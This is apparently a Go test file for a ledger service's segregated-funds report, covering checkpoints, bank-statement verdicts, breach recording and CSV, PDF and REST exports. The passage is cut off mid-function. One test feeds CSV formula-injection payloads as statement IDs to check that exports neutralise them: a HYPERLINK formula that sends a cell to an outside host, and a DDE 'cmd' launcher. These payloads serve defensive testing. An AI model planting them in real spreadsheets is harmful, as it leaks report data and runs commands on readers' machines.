package ledger_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"math/rand"
	"net/http"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/shopspring/decimal"

	"github.com/gpubill/gpubill/pkg/auth"
	"github.com/gpubill/gpubill/pkg/clock"
	"github.com/gpubill/gpubill/services/ledger"
	"github.com/gpubill/gpubill/services/ledger/internal/app"
	"github.com/gpubill/gpubill/services/ledger/internal/domain"
)

// bruteBalances sums every posting of currency created at or before asOf,
// per account: what a checkpoint plus the postings since must equal.
func bruteBalances(t *testing.T, f *fixture, cur string, asOf time.Time) map[string]decimal.Decimal {
	t.Helper()
	rows, err := f.pool.Query(f.ctx, `select account, coalesce(sum(case when direction = 'debit' then amount else -amount end), 0)::text
		from ledger.postings where currency = $1 and created_at <= $2 group by account`, cur, asOf)
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	out := map[string]decimal.Decimal{}
	for rows.Next() {
		var a, s string
		if err := rows.Scan(&a, &s); err != nil {
			t.Fatal(err)
		}
		if d := dec(s); !d.IsZero() {
			out[a] = d
		}
	}
	return out
}

func clientLinesFromBrute(t *testing.T, m map[string]decimal.Decimal) map[string]decimal.Decimal {
	t.Helper()
	out := map[string]decimal.Decimal{}
	for addr, net := range m {
		acc, err := domain.ParseAddress(addr)
		if err != nil {
			t.Fatal(err)
		}
		bal := acc.NormalBalance(net, decimal.Zero)
		switch {
		case acc.Class == domain.ClassRenter && bal.IsPositive():
			out["renter:"+acc.Party] = out["renter:"+acc.Party].Add(bal)
		case acc.Class == domain.ClassProvider:
			out["provider:"+acc.Party] = out["provider:"+acc.Party].Add(bal)
		}
	}
	for k, v := range out {
		// A provider in debit has no line, as a renter's wallet in debit.
		if v.IsZero() || (strings.HasPrefix(k, "provider:") && v.IsNegative()) {
			delete(out, k)
		}
	}
	return out
}

// The report as of any instant, before, at and between balance checkpoints,
// equals the sums of the postings up to that instant, client by client; a
// posting committed late into an interval already checkpointed is noticed
// at the next checkpoint and the figures stay exact.
func TestSegregatedFundsAsOfFromCheckpoints(t *testing.T) {
	t.Parallel()
	start := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)
	clk := clock.NewManual(start)
	f := newFixtureAt(t, nil, clk)
	rp := f.svc.Reports()
	rng := rand.New(rand.NewSource(12))
	var instants []time.Time
	key := 0
	post := func() {
		key++
		r, p := fmt.Sprintf("r-%d", rng.Intn(6)), fmt.Sprintf("p-%d", rng.Intn(4))
		amt := fmt.Sprintf("%d.%02d", 1+rng.Intn(90), rng.Intn(100))
		var in app.CreateTransactionInput
		switch rng.Intn(4) {
		case 0:
			f.deposit(t, r, amt, "CNY", fmt.Sprintf("dep-%d", key))
			return
		case 1: // a wallet may go negative: its debt never offsets another's money
			in = transfer(fmt.Sprintf("chg-%d", key), domain.RenterWallet(r), "provider:"+p+":pending:cyc-20260928", amt, "CNY")
		case 2:
			f.deposit(t, r, amt, "CNY", fmt.Sprintf("dep2-%d", key))
			in = transfer(fmt.Sprintf("chg2-%d", key), domain.RenterWallet(r), "provider:"+p+":pending:cyc-20260928", amt, "CNY")
		default:
			f.deposit(t, r, amt, "USD", fmt.Sprintf("usd-%d", key))
			return
		}
		if _, err := f.app.CreateTransaction(f.ctx, in); err != nil {
			t.Fatal(err)
		}
	}
	checkpoints := 0
	for step := 0; step < 60; step++ {
		clk.Advance(time.Duration(1+rng.Intn(40)) * time.Minute)
		post()
		instants = append(instants, clk.Now().Add(-time.Duration(rng.Intn(30))*time.Second))
		if step%7 == 6 {
			clk.Advance(25 * time.Hour) // a day passed: a checkpoint is due
			made, err := rp.CheckpointStep(f.ctx)
			if err != nil || !made {
				t.Fatalf("checkpoint step %d: made %v, %v", step, made, err)
			}
			checkpoints++
		}
	}
	// A posting created (by its clock) inside the last checkpointed interval
	// but committed after the checkpoint.
	last, err := rp.Store.LatestCheckpoint(f.ctx, nil)
	if err != nil || last == nil {
		t.Fatalf("latest checkpoint: %v %v", last, err)
	}
	now := clk.Now()
	clk.Set(last.At.Add(-time.Minute))
	f.deposit(t, "r-late", "7.77", "CNY", "late")
	lateAt := clk.Now()
	clk.Set(last.At) // on the checkpoint's instant: in it, not in the postings after it
	f.deposit(t, "r-edge", "1.11", "CNY", "edge")
	clk.Set(now.Add(25 * time.Hour))
	post()
	if made, err := rp.CheckpointStep(f.ctx); err != nil || !made {
		t.Fatalf("checkpoint after the late posting: %v %v", made, err)
	}
	instants = append(instants, lateAt, last.At, last.At.Add(-time.Microsecond), last.At.Add(time.Microsecond), clk.Now())
	var n int
	if err := f.pool.QueryRow(f.ctx, `select count(*) from ledger.balance_checkpoints`).Scan(&n); err != nil || n != checkpoints+1 {
		t.Fatalf("%d checkpoints (%v), want %d", n, err, checkpoints+1)
	}
	for _, at := range instants {
		at := at
		rep, err := rp.SegregatedFunds(f.ctx, &at, "CNY")
		if err != nil {
			t.Fatal(err)
		}
		brute := bruteBalances(t, f, "CNY", at)
		want := clientLinesFromBrute(t, brute)
		got := map[string]decimal.Decimal{}
		for _, c := range rep.Clients {
			got[c.Kind+":"+c.ID] = c.Total()
		}
		if len(got) != len(want) {
			t.Fatalf("as of %s: %d client lines, want %d: %v vs %v", at, len(got), len(want), got, want)
		}
		for k, w := range want {
			if !got[k].Equal(w) {
				t.Fatalf("as of %s: %s = %s, want %s (the postings' sum)", at, k, got[k], w)
			}
		}
		if wantBank := brute[domain.BankClient]; !rep.Resource.Equal(wantBank) {
			t.Fatalf("as of %s: bank:client %s, want %s", at, rep.Resource, wantBank)
		}
	}
	// The late deposit is in every report as of after it.
	rep, err := rp.SegregatedFunds(f.ctx, &last.At, "CNY")
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, c := range rep.Clients {
		found = found || (c.ID == "r-late" && c.Wallet.Equal(dec("7.77")))
	}
	if !found {
		t.Fatalf("the late deposit is missing as of the checkpoint it was late into: %+v", rep.Clients)
	}
	// Every checkpoint, the rebuilt one too, is what verify derives from the postings.
	chainAll(t, f)
	if res, err := ledger.VerifyChain(f.ctx, f.pool); err != nil || !res.OK {
		t.Fatalf("verify over %d checkpoints: %+v, %v", n, res, err)
	}
}

// The verdict follows the bank: a statement below the requirement is a
// shortfall while the ledger's bank:client balances; both figures are shown.
// A statement closing after as_of does not count.
func TestSegregatedFundsVerdictFromBankStatement(t *testing.T) {
	t.Parallel()
	clk := clock.NewManual(time.Date(2026, 11, 30, 12, 0, 0, 0, time.UTC))
	f := newFixtureAt(t, nil, clk)
	f.deposit(t, "r-1", "1000.00", "CNY", "d1")
	if _, err := f.app.CreateTransaction(f.ctx, transfer("c1", "renter:r-1:wallet", "provider:p-1:pending:cyc-20261112", "300.00", "CNY")); err != nil {
		t.Fatal(err)
	}
	imp := func(id, content string) {
		t.Helper()
		if _, err := f.svc.Statements().Import(f.ctx, app.ImportStatementInput{StatementID: id, Currency: "CNY", Account: "CN-1", Content: content}); err != nil {
			t.Fatal(err)
		}
	}
	rep, err := f.svc.Reports().SegregatedFunds(f.ctx, nil, "CNY")
	if err != nil || rep.Verdict != app.VerdictBalanced || rep.BankStatementBalance != nil {
		t.Fatalf("no statement: %+v %v", rep, err)
	}
	imp("s-1129", "date,reference,amount,balance\n2026-11-29,d1,1000.00,1000.00\n")
	imp("s-1130", "date,reference,amount,balance\n2026-11-30,fee,-10.00,990.00\n") // closes at 12-01 00:00: after as_of now
	rep, err = f.svc.Reports().SegregatedFunds(f.ctx, nil, "CNY")
	if err != nil || rep.Verdict != app.VerdictBalanced || !rep.BankStatementBalance.Equal(dec("1000")) {
		t.Fatalf("statement of 11-29: %+v %v", rep, err)
	}
	clk.Advance(24 * time.Hour)
	rep, err = f.svc.Reports().SegregatedFunds(f.ctx, nil, "CNY")
	if err != nil {
		t.Fatal(err)
	}
	if rep.Verdict != app.VerdictShortfall || !rep.Difference.Equal(dec("-10")) || !rep.LedgerDifference.IsZero() ||
		!rep.Resource.Equal(dec("1000")) || !rep.BankStatementBalance.Equal(dec("990")) || len(rep.Statements) != 1 || rep.Statements[0].ID != "s-1130" {
		t.Fatalf("bank 990 against 1000 owed: verdict %s, difference %s, ledger difference %s, resource %s, bank %v, statements %+v",
			rep.Verdict, rep.Difference, rep.LedgerDifference, rep.Resource, rep.BankStatementBalance, rep.Statements)
	}
	// Another client bank account's statement adds to the resource.
	if _, err := f.svc.Statements().Import(f.ctx, app.ImportStatementInput{StatementID: "s-2", Currency: "CNY", Account: "CN-2",
		Content: "date,reference,amount,balance\n2026-11-30,x,15.00,15.00\n"}); err != nil {
		t.Fatal(err)
	}
	rep, err = f.svc.Reports().SegregatedFunds(f.ctx, nil, "CNY")
	if err != nil || rep.Verdict != app.VerdictExcess || !rep.Difference.Equal(dec("5")) {
		t.Fatalf("two accounts: %s %s %v", rep.Verdict, rep.Difference, err)
	}
}

// A breach is recorded when posted (not found by a later scan): the row is
// there right after the write; the report lists it with its id from then on.
// The one-time backfill classifies transactions posted before recording.
func TestSegregationBreachRecordedWhenPosted(t *testing.T) {
	t.Parallel()
	f := newFixture(t, nil)
	f.deposit(t, "r-1", "100.00", "CNY", "d1")
	bad, err := f.app.CreateTransaction(f.ctx, transfer("fee", "renter:r-1:wallet", "platform:revenue:commission", "5.00", "CNY"))
	if err != nil {
		t.Fatal(err)
	}
	// A sweep is allowed when settlement posts it (its kind, the service's
	// own); the same entry by finance is a breach (it passed by its shape).
	sweep := transfer("sweep", "bank:operating", "bank:client", "1.00", "CNY")
	sweep.Metadata, sweep.Internal = map[string]string{"kind": "commission_sweep", "cycle_id": "cyc-20261112", "provider_id": "p-1"}, true
	ok, err := f.app.CreateTransaction(f.ctx, sweep)
	if err != nil {
		t.Fatal(err)
	}
	fake, err := f.app.CreateTransaction(f.ctx, transfer("finance-sweep", "bank:operating", "bank:client", "90.00", "CNY"))
	if err != nil {
		t.Fatal(err)
	}
	var ids []string
	rows, err := f.pool.Query(f.ctx, `select tx_id::text from ledger.segregation_breaches order by created_at`)
	if err != nil {
		t.Fatal(err)
	}
	for rows.Next() {
		var id string
		if err := rows.Scan(&id); err != nil {
			t.Fatal(err)
		}
		ids = append(ids, id)
	}
	if len(ids) != 2 || ids[0] != bad.ID || ids[1] != fake.ID {
		t.Fatalf("recorded breaches %v, want %s and finance's sweep %s (settlement's sweep %s is allowed)", ids, bad.ID, fake.ID, ok.ID)
	}
	rep, err := f.svc.Reports().SegregatedFunds(f.ctx, nil, "CNY")
	if err != nil || len(rep.Breaches) != 2 || rep.Breaches[0].TransactionID != bad.ID || rep.Breaches[1].TransactionID != fake.ID || rep.BreachesTotal != 2 {
		t.Fatalf("report breaches: %+v %v", rep.Breaches, err)
	}
	// As if posted before recording: the backfill finds it again, once.
	if _, err := f.pool.Exec(f.ctx, `alter table ledger.segregation_breaches disable trigger segregation_breaches_immutable;
		delete from ledger.segregation_breaches; update ledger.report_backfills set done_at = null;
		alter table ledger.segregation_breaches enable trigger segregation_breaches_immutable`); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 2; i++ {
		if err := f.svc.Reports().Store.BackfillBreaches(f.ctx); err != nil {
			t.Fatal(err)
		}
	}
	for _, id := range []string{bad.ID, fake.ID, ok.ID} {
		want := 1
		if id == ok.ID {
			want = 0
		}
		var n int
		if err := f.pool.QueryRow(f.ctx, `select count(*) from ledger.segregation_breaches where tx_id = $1::uuid`, id).Scan(&n); err != nil || n != want {
			t.Fatalf("backfilled %d rows for %s (%v), want %d", n, id, err, want)
		}
	}
}

// The journal head is the one as of the report's instant: the last link
// chained at or before it, not the current head.
func TestSegregatedFundsHeadAsOf(t *testing.T) {
	t.Parallel()
	f := newFixture(t, nil)
	f.deposit(t, "r-1", "10.00", "CNY", "d1")
	chainAll(t, f)
	var mid time.Time
	if err := f.pool.QueryRow(f.ctx, `select clock_timestamp()`).Scan(&mid); err != nil {
		t.Fatal(err)
	}
	var midHash string
	if err := f.pool.QueryRow(f.ctx, `select encode(hash, 'hex') from ledger.journal_chain order by position desc limit 1`).Scan(&midHash); err != nil {
		t.Fatal(err)
	}
	time.Sleep(10 * time.Millisecond) // chained_at is the database's clock: the next link is after mid
	f.deposit(t, "r-1", "5.00", "CNY", "d2")
	chainAll(t, f)
	rep, err := f.svc.Reports().SegregatedFunds(f.ctx, &mid, "CNY")
	if err != nil {
		t.Fatal(err)
	}
	now, err := f.svc.Reports().SegregatedFunds(f.ctx, nil, "CNY")
	if err != nil {
		t.Fatal(err)
	}
	if rep.JournalHeadHash != midHash || rep.JournalHeadPosition != 1 || now.JournalHeadPosition != 2 || now.JournalHeadHash == midHash {
		t.Fatalf("head as of mid: %s@%d (want %s@1); now %s@%d", rep.JournalHeadHash, rep.JournalHeadPosition, midHash,
			now.JournalHeadHash, now.JournalHeadPosition)
	}
}

func reportFixture(t *testing.T) (*fixture, *app.SegregatedFundsReport) {
	t.Helper()
	clk := clock.NewManual(time.Date(2026, 11, 30, 12, 0, 0, 0, time.UTC))
	f := newFixtureAt(t, nil, clk)
	f.deposit(t, "r-1", "600.00", "CNY", "d1")
	f.deposit(t, "r-2", "40.25", "CNY", "d2")
	post := func(in app.CreateTransactionInput) {
		t.Helper()
		if _, err := f.app.CreateTransaction(f.ctx, in); err != nil {
			t.Fatal(err)
		}
	}
	post(transfer("c1", "renter:r-1:wallet", "provider:p-1:pending:cyc-20261112", "100.00", "CNY"))
	post(transfer("c2", "renter:r-2:wallet", "provider:p-2:pending:cyc-20261112", "50.00", "CNY")) // r-2 at -9.75
	post(transfer("fee", "renter:r-1:wallet", "platform:revenue:commission", "1.00", "CNY"))       // a breach
	if _, err := f.svc.Statements().Import(f.ctx, app.ImportStatementInput{StatementID: "s-1129", Currency: "CNY", Account: "CN-1",
		Content: "date,reference,amount,balance\n2026-11-29,d1,600.00,600.00\n2026-11-29,d2,40.25,640.25\n"}); err != nil {
		t.Fatal(err)
	}
	rep, err := f.svc.Reports().SegregatedFunds(f.ctx, nil, "CNY")
	if err != nil {
		t.Fatal(err)
	}
	return f, rep
}

// The CSV opens in a spreadsheet: a header, one line per client with its
// amounts as decimal text, then the totals.
func TestSegregatedFundsCSV(t *testing.T) {
	t.Parallel()
	f, _ := reportFixture(t)
	b, err := ledger.ExportSegregatedFunds(f.ctx, f.pool, nil, "CNY", "csv", nil)
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(recs[0], ",") != "kind,client_id,wallet,pending,available,in_transit,total,currency,as_of" {
		t.Fatalf("header %v", recs[0])
	}
	// Clients: r-1 499.00; r-2 in debit has no line; p-1 100.00; p-2 50.00.
	want := [][]string{{"renter", "r-1", "499.00", "", "", "", "499.00"}, {"provider", "p-1", "", "100.00", "0.00", "0.00", "100.00"},
		{"provider", "p-2", "", "50.00", "0.00", "0.00", "50.00"}}
	for i, w := range want {
		if got := recs[1+i][:7]; strings.Join(got, ",") != strings.Join(w, ",") {
			t.Fatalf("client line %d: %v, want %v", i+1, got, w)
		}
	}
	summary := map[string]string{}
	for _, r := range recs[4:] {
		if r[0] == "summary" || r[0] == "breach" || r[0] == "journal_head" || r[0] == "bank_statement" {
			summary[r[0]+"/"+r[1]] = r[6]
		}
	}
	// requirement 649.00; bank 640.25 (statement) → -8.75; ledger bank:client 640.25 too.
	for k, v := range map[string]string{"summary/client_money_requirement": "649.00", "summary/bank_statement_balance": "640.25",
		"summary/difference": "-8.75", "summary/verdict": "shortfall", "summary/client_money_resource": "640.25", "bank_statement/s-1129": "640.25"} {
		if summary[k] != v {
			t.Fatalf("%s = %q, want %q (rows %v)", k, summary[k], v, recs)
		}
	}
	nBreach := 0
	for k := range summary {
		if strings.HasPrefix(k, "breach/") {
			nBreach++
		}
	}
	if nBreach != 1 {
		t.Fatalf("%d breach rows, want 1: %v", nBreach, recs)
	}
}

// TestSegregatedFundsCSVHasNoFormulas: a statement id comes from finance or
// a camt.053's Stmt/Id and may start with = + - @; written as is, the
// auditors' spreadsheet ran =HYPERLINK("https://x.example/?"&G2,…) as a
// formula, sending a cell of the report to another site on a click. Every
// text cell starting so is prefixed with ' (the id still reads whole);
// amounts, negative ones too, stay numbers.
func TestSegregatedFundsCSVHasNoFormulas(t *testing.T) {
	t.Parallel()
	f, _ := reportFixture(t)
	hostile := []string{`=HYPERLINK("https://x.example/?"&G2,"ICBC-1130")`, "+cmd|'/Ccalc'!A0", "-2+3", "@SUM(1,1)"}
	for i, id := range hostile {
		if _, err := f.svc.Statements().Import(f.ctx, app.ImportStatementInput{StatementID: id, Currency: "CNY", Account: fmt.Sprintf("CN-X-%d", i),
			Content: fmt.Sprintf("date,reference,amount,balance\n2026-11-29,x%d,0.0%d,0.0%d\n", i, i+1, i+1)}); err != nil {
			t.Fatal(err)
		}
	}
	b, err := ledger.ExportSegregatedFunds(f.ctx, f.pool, nil, "CNY", "csv", nil)
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	const wallet, total = 2, 6 // wallet..total are amounts; total is text in the verdict and journal head rows
	ids := map[string]bool{}
	for _, r := range recs[1:] {
		for col, cell := range r {
			amount := col >= wallet && col <= total && r[1] != "verdict" && r[0] != "journal_head"
			if !amount && cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %v: cell %d %q starts with a formula character", r, col, cell)
			}
		}
		if r[0] == "bank_statement" {
			ids[r[1]] = true
		}
	}
	for _, id := range hostile {
		if !ids["'"+id] {
			t.Errorf("no bank_statement row for %q as '%s (rows %v)", id, id, ids)
		}
	}
	// Amounts are untouched: the shortfall is still a negative number.
	for _, r := range recs {
		if r[0] == "summary" && r[1] == "difference" && r[total] != "-8.65" {
			t.Errorf("difference %q; want -8.65, a number", r[total])
		}
	}
}

// The PDF, read back with a text extractor (pdftotext), shows the figures,
// the verdict, the journal head and the client lines.
func TestSegregatedFundsPDF(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("pdftotext"); err != nil {
		t.Fatal("pdftotext (poppler-utils) is needed to read the PDF back: apt-get install poppler-utils (.ci/run installs it)")
	}
	f, rep := reportFixture(t)
	b, err := ledger.ExportSegregatedFunds(f.ctx, f.pool, nil, "CNY", "pdf", nil)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(b, []byte("%PDF-")) {
		t.Fatalf("not a PDF: %.20q", b)
	}
	path := t.TempDir() + "/report.pdf"
	if err := os.WriteFile(path, b, 0o600); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(f.ctx, time.Minute)
	defer cancel()
	page := func(n int) string {
		out, err := exec.CommandContext(ctx, "pdftotext", "-layout", "-f", fmt.Sprint(n), "-l", fmt.Sprint(n), path, "-").Output()
		if err != nil {
			t.Fatal(err)
		}
		return string(out)
	}
	p1 := page(1)
	for _, want := range []string{"Client money requirement 649.00", "Bank statement balance 640.25", "Difference -8.75",
		"Verdict shortfall", "Client money resource (ledger bank:client) 640.25", rep.JournalHeadHash, rep.Breaches[0].TransactionID, "s-1129"} {
		if !strings.Contains(squash(p1), want) {
			t.Fatalf("page 1 does not show %q:\n%s", want, p1)
		}
	}
	p2 := squash(page(2))
	for _, want := range []string{"renter r-1 499.00 499.00", "provider p-1 100.00 0.00 0.00 100.00", "provider p-2 50.00 0.00 0.00 50.00"} {
		if !strings.Contains(p2, want) {
			t.Fatalf("page 2 does not show %q:\n%s", want, p2)
		}
	}
	if strings.Contains(p2, "r-2") {
		t.Fatalf("a wallet in debit has a client line:\n%s", p2)
	}
}

// squash folds runs of spaces (pdftotext -layout aligns columns).
func squash(s string) string { return strings.Join(strings.Fields(s), " ") }

// Through REST: the report as JSON, CSV and PDF with their content types; an
// unknown format is a 400 naming the field; a provider may not read it.
func TestRESTSegregatedFundsFormats(t *testing.T) {
	t.Parallel()
	f := newFixture(t, nil)
	base, secret := startServer(t, f)
	before := time.Now().UTC().Add(-time.Second).Format(time.RFC3339Nano)
	f.deposit(t, "r-1", "12.50", "CNY", "d1")
	for _, tc := range []struct {
		role, format string
		wantCode     int
		wantType     string
		wantBody     string
	}{
		{"auditor", "json", 200, "application/json", `"client_money_requirement":"12.50"`},
		{"auditor", "csv", 200, "text/csv; charset=utf-8", "renter,r-1,12.50,,,,12.50,CNY,"},
		{"finance", "pdf", 200, "application/pdf", "%PDF-"},
		{"auditor", "xml", 400, "application/json", `"field":"format"`},
		{"auditor", "json&as_of=" + before, 200, "application/json", `"client_money_requirement":"0.00"`},
		// An instant not yet passed: today's balances under a later date,
		// which would change by then.
		{"auditor", "json&as_of=" + time.Now().UTC().Add(time.Hour).Format(time.RFC3339), 400, "application/json", `"field":"as_of"`},
		// A parameter naming no field (the CLI flag's spelling): it was
		// skipped, and the report of now answered for the instant asked.
		{"auditor", "json&as-of=" + before, 400, "application/json", `unknown query parameter \"as-of\"`},
	} {
		tok, err := auth.Issue(secret, tc.role, "", time.Hour)
		if err != nil {
			t.Fatal(err)
		}
		req, err := http.NewRequest("GET", base+"/v1/reports/segregated-funds?currency=CNY&format="+tc.format, nil)
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Authorization", "Bearer "+tok)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(resp.Body)
		resp.Body.Close()
		if err != nil || resp.StatusCode != tc.wantCode || resp.Header.Get("Content-Type") != tc.wantType || !strings.Contains(string(b), tc.wantBody) {
			t.Errorf("format %s: HTTP %d %q %.300q (%v), want %d %q containing %q", tc.format, resp.StatusCode, resp.Header.Get("Content-Type"), b, err,
				tc.wantCode, tc.wantType, tc.wantBody)
		}
	}
	// DESIGN §7: the report's readers are finance and auditors; admin
	// (parties, usage, rate cards, ops) is not one of them.
	for _, who := range [][2]string{{auth.RoleProvider, "p-1"}, {auth.RoleAdmin, ""}, {auth.RoleRenter, "r-1"}} {
		tok, err := auth.Issue(secret, who[0], who[1], time.Hour)
		if err != nil {
			t.Fatal(err)
		}
		c := restClient{t: t, base: base, token: tok}
		if code, body := c.do("GET", "/v1/reports/segregated-funds?currency=CNY", ""); code != 403 {
			t.Errorf("role %s read the report: %d %.200s", who[0], code, body)
		}
	}
}

// A report lists the first 10 000 segregation breaches and says how many
// there are in every form: past the limit the rest were dropped with no
// sign of them (the PDF's count read 10000).
func TestReportSaysHowManyBreaches(t *testing.T) {
	t.Parallel()
	f := newFixture(t, nil)
	base, secret := startServer(t, f)
	if _, err := f.pool.Exec(f.ctx, `insert into ledger.segregation_breaches
		(tx_id, seq, account, currency, from_pool, to_pool, amount, reason, effective_at, created_at)
		select gen_random_uuid(), 0, 'renter:r-1:wallet', 'CNY', 'client', 'platform', 1, 'test', now(), now() - interval '1 minute'
		from generate_series(1, 10001)`); err != nil {
		t.Fatal(err)
	}
	tok, err := auth.Issue(secret, auth.RoleAuditor, "", time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	c := restClient{t: t, base: base, token: tok}
	code, body := c.do("GET", "/v1/reports/segregated-funds?currency=CNY&format=csv", "")
	if code != 200 || !strings.Contains(body, "\nsummary,breaches_total,,,,,10001,") || strings.Count(body, "\nbreach,") != 10000 {
		t.Errorf("CSV: %d, breaches_total row %v, %d breach rows", code, strings.Contains(body, "summary,breaches_total,,,,,10001,"), strings.Count(body, "\nbreach,"))
	}
	code, body = c.do("GET", "/v1/reports/segregated-funds?currency=CNY&format=json", "")
	if code != 200 || !strings.Contains(body, `"breaches_total":10001`) {
		t.Errorf("JSON: %d, no breaches_total 10001 in %.200s…", code, body)
	}
	b, err := ledger.ExportSegregatedFunds(f.ctx, f.pool, nil, "CNY", "pdf", nil)
	if err != nil {
		t.Fatal(err)
	}
	path := t.TempDir() + "/report.pdf"
	if err := os.WriteFile(path, b, 0o600); err != nil {
		t.Fatal(err)
	}
	out, err := exec.CommandContext(f.ctx, "pdftotext", "-layout", "-f", "1", "-l", "1", path, "-").Output()
	if err != nil || !strings.Contains(squash(string(out)), "Segregation breaches 10001 (the first 10000 listed)") {
		t.Errorf("PDF page 1 (%v) does not count every breach:\n%.600s", err, out)
	}
}

// A provider whose own money nets below zero (finance reversed an earning
// already paid out: available at -50) is a client in debit like a renter's
// wallet: it never offsets other clients' money. It has no client line and
// its total is a memo, in every form; the requirement is the creditors'
// money. A provider with one sub-balance below zero but its total above
// keeps its line as it nets (its own money, netted within one client).
// Before, the requirement was 50 lower and the report read balanced while
// the bank held 50 less than the creditors were owed.
func TestSegregatedFundsProviderInDebitNeverOffsets(t *testing.T) {
	t.Parallel()
	clk := clock.NewManual(time.Date(2026, 11, 30, 12, 0, 0, 0, time.UTC))
	f := newFixtureAt(t, nil, clk)
	f.deposit(t, "r-1", "300.00", "CNY", "d1")
	post := func(in app.CreateTransactionInput) *domain.Transaction {
		t.Helper()
		tx, err := f.app.CreateTransaction(f.ctx, in)
		if err != nil {
			t.Fatal(err)
		}
		return tx
	}
	// earnPaidReversed credits provider p amt, pays it out through in
	// transit to the bank, then reverses the earning: p's available at -amt.
	earnPaidReversed := func(p, amt string) {
		t.Helper()
		earn := post(transfer("earn-"+p, "renter:r-1:wallet", "provider:"+p+":available", amt, "CNY"))
		post(transfer("submit-"+p, "provider:"+p+":available", "provider:"+p+":in_transit", amt, "CNY"))
		post(transfer("paid-"+p, "provider:"+p+":in_transit", domain.BankClient, amt, "CNY"))
		if _, err := f.app.ReverseTransaction(f.ctx, app.ReverseInput{TransactionID: earn.ID, Description: "earning reversed"}); err != nil {
			t.Fatal(err)
		}
	}
	earnPaidReversed("p-neg", "50.00")
	post(transfer("c-2", "renter:r-1:wallet", "provider:p-2:pending:cyc-20261112", "30.00", "CNY"))
	earnPaidReversed("p-3", "20.00")
	post(transfer("c-3", "renter:r-1:wallet", "provider:p-3:pending:cyc-20261112", "80.00", "CNY"))
	wantBalance(t, f, "provider:p-neg:available", "CNY", "-50")
	wantBalance(t, f, "provider:p-3:available", "CNY", "-20")
	// The creditors, computed from the postings above: r-1 300-50-30-20-80+50+20
	// = 190; p-2 30; p-3 80-20 = 60. The bank holds 300-50-20 = 230.
	creditors := dec("190").Add(dec("30")).Add(dec("60"))
	rep, err := f.svc.Reports().SegregatedFunds(f.ctx, nil, "CNY")
	if err != nil {
		t.Fatal(err)
	}
	if !rep.Requirement.Equal(creditors) || rep.Verdict != app.VerdictShortfall || !rep.Difference.Equal(dec("-50")) {
		t.Fatalf("requirement %s (want the creditors' %s), verdict %s, difference %s (want shortfall -50): p-neg's debt offset others' money",
			rep.Requirement, creditors, rep.Verdict, rep.Difference)
	}
	lines := map[string]string{}
	for _, c := range rep.Clients {
		lines[c.Kind+":"+c.ID] = fmt.Sprintf("%s/%s/%s/%s", c.Pending.StringFixed(2), c.Available.StringFixed(2), c.InTransit.StringFixed(2), c.Total().StringFixed(2))
	}
	if want := map[string]string{"renter:r-1": "0.00/0.00/0.00/190.00", "provider:p-2": "30.00/0.00/0.00/30.00",
		"provider:p-3": "80.00/-20.00/0.00/60.00"}; fmt.Sprint(lines) != fmt.Sprint(want) {
		t.Fatalf("client lines %v, want %v (no line for p-neg; p-3 nets within itself)", lines, want)
	}
	sections := map[string]string{}
	for _, l := range rep.Lines {
		sections[l.Section+" "+l.Account+" "+l.Description] = l.Amount.StringFixed(2)
	}
	for k, v := range map[string]string{
		"requirement provider:*:pending:* provider earnings held in open cycles":       "110.00",
		"requirement provider:*:available settled provider earnings awaiting payout":   "-20.00",
		"requirement provider:*:in_transit submitted payouts not yet confirmed":        "0.00",
		"memo provider:* 1 provider in debit: not offset against other clients' money": "-50.00",
	} {
		if sections[k] != v {
			t.Fatalf("line %q = %q, want %s (lines %v)", k, sections[k], v, sections)
		}
	}
	// Every form carries the memo as it carries the renter wallets' one.
	export := func(format string) []byte {
		t.Helper()
		b, err := ledger.ExportSegregatedFunds(f.ctx, f.pool, nil, "CNY", format, nil)
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	if js := string(export("json")); !strings.Contains(js, `{"section":"memo","account":"provider:*","description":"1 provider in debit: not offset against other clients' money","amount":"-50.00"}`) ||
		!strings.Contains(js, `"client_money_requirement":"280.00"`) || strings.Contains(js, "p-neg") {
		t.Fatalf("JSON has no provider memo, or a line for p-neg:\n%s", js)
	}
	if c := string(export("csv")); !strings.Contains(c, "\ntotal:memo,provider:*,,,,,-50.00,CNY,") || strings.Contains(c, "p-neg") {
		t.Fatalf("CSV has no provider memo row, or a line for p-neg:\n%s", c)
	}
	path := t.TempDir() + "/report.pdf"
	if err := os.WriteFile(path, export("pdf"), 0o600); err != nil {
		t.Fatal(err)
	}
	out, err := exec.CommandContext(f.ctx, "pdftotext", "-layout", path, "-").Output()
	if p := squash(string(out)); err != nil || !strings.Contains(p, "memo provider:* 1 provider in debit: not offset against other clients' money -50.00") ||
		!strings.Contains(p, "Client money requirement 280.00") || strings.Contains(p, "p-neg") {
		t.Fatalf("PDF (%v) has no provider memo, or a line for p-neg:\n%s", err, out)
	}
}

// TestSegregatedFundsMemoUnsweptCommission: settlement moves a provider's
// commission out of what is owed to clients at once, but its sweep (Dr
// bank:operating, Cr bank:client) waits while bank:client cannot fund it.
// Meanwhile bank:client holds the commission: the report was in excess by
// it with no line saying why. A memo line names the commission earned by
// settlements and not yet swept, from the ledger's own balances; a breach
// crossing the same pools is not counted in it (the breaches list it), and
// the memos and the breach explain the ledger's difference to the cent.
func TestSegregatedFundsMemoUnsweptCommission(t *testing.T) {
	t.Parallel()
	clk := clock.NewManual(time.Date(2026, 11, 30, 12, 0, 0, 0, time.UTC))
	f := newFixtureAt(t, nil, clk)
	p := func(acc, dir, amt string) domain.RawPosting {
